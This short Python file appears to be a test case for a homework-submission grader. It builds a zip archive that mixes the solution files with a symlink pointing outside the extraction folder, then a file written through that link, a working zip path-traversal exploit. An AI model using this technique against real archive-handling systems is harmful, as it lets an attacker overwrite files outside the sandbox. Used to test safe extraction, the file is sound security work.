"""submission
attack: a zip that first holds a link to a folder outside, then a file that is written through it
"""
import stat
import zipfile


def make(folder, solution):
    path = folder / "homework.zip"
    link = zipfile.ZipInfo("way")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as archive:
        for file in solution.iterdir():
            archive.write(file, file.name)
        archive.writestr(link, str(folder / "outside"))
        archive.writestr("way/escaped", "evil")
    return path
